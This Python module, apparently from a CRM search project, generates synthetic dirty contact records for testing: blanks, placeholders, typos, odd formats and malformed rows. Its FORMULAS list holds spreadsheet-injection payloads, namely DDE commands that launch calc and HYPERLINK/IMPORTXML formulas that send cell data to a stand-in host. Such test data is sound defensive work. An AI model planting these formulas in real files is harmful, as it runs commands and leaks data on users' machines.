"""Dirt: what bad habits, broken exports and spiteful people make of a record, and how often.

One cell takes one kind of dirt at most, so that what was put in can be counted in what comes out.
"""

from collections.abc import Callable

import msgspec

from crmsearch.sample.draw import Random, between, chance, pick, words
from crmsearch.sample.notation import age_in_words, in_other_date_format, in_other_phone_notation, in_other_time_format, to_full_width
from crmsearch.sample.people import Person
from crmsearch.sample.records import (
    ADDRESS,
    AGE,
    BIRTH,
    CITY,
    COMPANY,
    COUNTRY,
    CREATED,
    EMAIL,
    GENDER,
    JOB,
    MOBILE,
    NAME,
    NATIONAL_ID,
    NOTE,
    PHONE,
    POSTCODE,
)  # fmt: skip
from crmsearch.sample.wording import MESSY_NOTES

__all__ = ["DOMAIN_TYPOS", "DUMMIES", "IDENTITY", "INVISIBLE", "PLACEHOLDERS", "RULES", "SHAPES", "Dirt", "soil"]

Spoil = Callable[[Random, str, Person], str | None]

PLACEHOLDERS = words("n/a,N/A,test,无,xxx,-,null,none,未知,unknown,asdf,TBD,不详,.,???")
IMPOSSIBLE_AGES = words("-3,0,212,999")
IMPOSSIBLE_DATES = words("2024-02-30,1990-13-05,0000-00-00,31.02.1988,1985-00-12,1979年2月30日,9999-99-99")
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://malware.invalid/?x="&A1,"Click here")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://malware.invalid/?",A2),"//a")',
)
INVISIBLE = "\u200b\u200e\ufeff\u00ad\u2060\x07\x02\x7f"
DUMMIES = words("test@test.com,noemail@noemail.com,none@none.com,a@a.com,11111111111,12345678901,00000000000,13800138000,99999999")
DOMAIN_TYPOS = {
    "gmail.com": words("gmial.com,gmai.com,gmail.con,gamil.com,gmail.cm"),
    "qq.com": words("qq.con,qq.cm,qqq.com"),
    "163.com": words("163.con,1663.com,163.cm"),
    "hotmail.com": words("hotmial.com,hotmail.con,hotmal.com"),
    "yahoo.com": words("yaho.com,yahoo.con,yhaoo.com"),
    "outlook.com": words("outlok.com,outlook.con,outllok.com"),
}
GENDER_VARIANTS = {
    "F": words("F,F,F,f,female,FEMALE,女,女,女,女性,女士,Frau,Mrs,Ms.,Mme,weiblich,Female "),
    "M": words("M,M,M,m,male,MALE,男,男,男,男性,先生,Herr,Mr,Mr.,M.,männlich,Male "),
}
TITLES = {
    "zh": {"F": words("女士,小姐,老师,经理,医生"), "M": words("先生,先生,老师,经理,教授")},
    "US": {"F": words("Mrs.,Ms.,Miss,Dr.,Prof."), "M": words("Mr.,Mr,Dr.,Prof.,Rev.")},
    "GB": {"F": words("Mrs,Ms,Miss,Dr,Dame"), "M": words("Mr,Mr,Dr,Prof,Sir")},
    "DE": {"F": words("Frau,Frau Dr.,Prof. Dr."), "M": words("Herr,Herr Dr.,Dr.-Ing.")},
    "FR": {"F": words("Mme,Mlle,Dr"), "M": words("M.,Monsieur,Dr")},
    "ES": {"F": words("Sra.,Dña.,Dra."), "M": words("Sr.,D.,Dr.")},
    "IN": {"F": words("Smt.,Mrs,Ms,Dr."), "M": words("Shri,Mr,Mr.,Dr.")},
}


class Dirt(msgspec.Struct, frozen=True):
    """One kind of dirt: how often a record gets it, in one of which columns, and the function that makes it.

    The function answers ``None`` where it cannot be applied; an empty cell is never touched.
    """

    kind: str
    rate: float
    columns: tuple[int, ...]
    spoil: Spoil


def _one_of(values: tuple[str, ...]) -> Spoil:
    return lambda rng, _cell, _person: pick(rng, values)


def _dummy(rng: Random, cell: str, _person: Person) -> str:
    return pick(rng, [dummy for dummy in DUMMIES if ("@" in dummy) == ("@" in cell)])


def _spaces(rng: Random, cell: str, _person: Person) -> str:
    kind = rng.random()
    if kind < 0.3:
        return f"  {cell} "
    if kind < 0.5:
        return f"{cell}\u3000"
    if " " in cell:
        return cell.replace(" ", "   ", 1)
    if "\u4e00" <= cell[0] <= "\u9fff":
        return f"{cell[0]}\u3000{cell[1:]}" if kind < 0.75 else f"{cell[0]} {cell[1:]}"
    return f" {cell}"


def _upper(_rng: Random, cell: str, person: Person) -> str | None:
    return cell.upper() if person.name and not person.name.han else None


def _lower(_rng: Random, cell: str, person: Person) -> str | None:
    return cell.lower() if person.name and not person.name.han else None


def _family_first(_rng: Random, cell: str, person: Person) -> str | None:
    name = person.name
    return f"{name.family}, {cell.removesuffix(name.family).strip()}" if name and not name.han else None


def _title(rng: Random, cell: str, person: Person) -> str | None:
    if not person.name:
        return None
    if person.name.han:
        return f"{cell}{pick(rng, TITLES['zh'][person.gender])}"
    return f"{pick(rng, TITLES.get(person.city.country.code, TITLES['US'])[person.gender])} {cell}"


def _gender(rng: Random, _cell: str, person: Person) -> str:
    return pick(rng, GENDER_VARIANTS[person.gender])


def _city(rng: Random, _cell: str, person: Person) -> str:
    return pick(rng, person.city.variants)


def _country(rng: Random, _cell: str, person: Person) -> str:
    return pick(rng, person.city.country.variants)


def _invisible(rng: Random, cell: str, _person: Person) -> str:
    at = between(rng, 0, len(cell))
    return cell[:at] + pick(rng, INVISIBLE) + cell[at:]


def _email_typo(rng: Random, email: str, _person: Person) -> str:
    local, _, domain = email.partition("@")
    if domain in DOMAIN_TYPOS and chance(rng, 0.6):
        return f"{local}@{pick(rng, DOMAIN_TYPOS[domain])}"
    return pick(rng, (f"{local}{domain}", f"{local}@@{domain}", f"{local}@{domain.replace('.', ',')}", f"{local}@", f"{local} @{domain}"))


def _email_caps(rng: Random, email: str, _person: Person) -> str:
    return email.upper() if chance(rng, 0.4) else email.title()


def _note_with_newline(_rng: Random, note: str, _person: Person) -> str:
    return f"{note}\n{note}"


_missing = _one_of(("",))

# Shares are of all records; where a kind does not apply to a record (capitals to a Chinese name), its own share is smaller.
RULES = (
    Dirt("missing_name", 0.008, (NAME,), _missing),
    Dirt("missing_age", 0.03, (AGE,), _missing),
    Dirt("missing_gender", 0.025, (GENDER,), _missing),
    Dirt("missing_birth_date", 0.05, (BIRTH,), _missing),
    Dirt("missing_email", 0.03, (EMAIL,), _missing),
    Dirt("missing_mobile", 0.03, (MOBILE,), _missing),
    Dirt("missing_city", 0.015, (CITY,), _missing),
    Dirt("placeholder", 0.006, (NAME,), _one_of(PLACEHOLDERS)),
    Dirt("placeholder", 0.02, (EMAIL, MOBILE, ADDRESS, CITY, COMPANY, JOB), _one_of(PLACEHOLDERS)),
    Dirt("dummy_contact", 0.004, (EMAIL, MOBILE), _dummy),
    Dirt("formula", 0.004, (NAME, COMPANY, JOB, NOTE), _one_of(FORMULAS)),
    Dirt("impossible_age", 0.01, (AGE,), _one_of(IMPOSSIBLE_AGES)),
    Dirt("age_in_words", 0.008, (AGE,), age_in_words),
    Dirt("impossible_date", 0.006, (BIRTH,), _one_of(IMPOSSIBLE_DATES)),
    Dirt("date_format", 0.25, (BIRTH,), in_other_date_format),
    Dirt("time_format", 0.08, (CREATED,), in_other_time_format),
    Dirt("invisible", 0.01, (NAME, EMAIL, COMPANY), _invisible),
    Dirt("full_width", 0.015, (NAME, COMPANY, EMAIL, POSTCODE), to_full_width),
    Dirt("spaces", 0.03, (NAME, NAME, COMPANY, ADDRESS, CITY), _spaces),
    Dirt("all_caps", 0.04, (NAME,), _upper),
    Dirt("lower_case", 0.02, (NAME,), _lower),
    Dirt("family_first", 0.04, (NAME,), _family_first),
    Dirt("title", 0.03, (NAME,), _title),
    Dirt("gender_variant", 0.25, (GENDER,), _gender),
    Dirt("city_variant", 0.12, (CITY,), _city),
    Dirt("country_variant", 0.10, (COUNTRY,), _country),
    Dirt("phone_notation", 0.60, (MOBILE,), in_other_phone_notation),
    Dirt("phone_notation", 0.60, (PHONE,), in_other_phone_notation),
    Dirt("email_typo", 0.02, (EMAIL,), _email_typo),
    Dirt("email_caps", 0.02, (EMAIL,), _email_caps),
    Dirt("messy_note", 0.05, (NOTE,), _one_of(MESSY_NOTES)),
    Dirt("newline", 0.006, (NOTE,), _note_with_newline),
)

IDENTITY = (NAME, EMAIL, PHONE, MOBILE, COMPANY, NATIONAL_ID)


def _without_identity(_rng: Random, row: list[str]) -> None:
    for column in IDENTITY:
        row[column] = ""


def _too_few(rng: Random, row: list[str]) -> None:
    del row[len(row) - between(rng, 1, 6) :]


def _too_many(rng: Random, row: list[str]) -> None:
    # Either an unquoted comma has split the address, or the export ends its rows with separators.
    row[ADDRESS : ADDRESS + 1] = [row[ADDRESS][:4], row[ADDRESS][4:]] if chance(rng, 0.5) else [row[ADDRESS]]
    row += [""] * between(rng, 1, 3)


SHAPES: tuple[tuple[str, float, Callable[[Random, list[str]], None]], ...] = (
    ("no_identity", 0.003, _without_identity),
    ("too_few_cells", 0.0015, _too_few),
    ("too_many_cells", 0.0015, _too_many),
)
"""Dirt of a whole row, which then has no other."""


def soil(rng: Random, row: list[str], person: Person, touched: set[int]) -> list[str]:
    """Make a record dirty, in place.

    Args:
        rng: the source of chance.
        row: the record.
        person: whose record it is.
        touched: columns to leave alone; those that get dirty are added.

    Returns:
        The kinds of dirt it got.
    """
    for kind, rate, shape in SHAPES:
        if not touched and rng.random() < rate:
            shape(rng, row)
            return [kind]
    kinds = []
    for dirt in RULES:
        if rng.random() >= dirt.rate:
            continue
        column = dirt.columns[0] if len(dirt.columns) == 1 else pick(rng, dirt.columns)
        if column in touched or not row[column]:
            continue
        cell = dirt.spoil(rng, row[column], person)
        if cell is not None and cell != row[column]:
            row[column] = cell
            touched.add(column)
            kinds.append(dirt.kind)
    return kinds
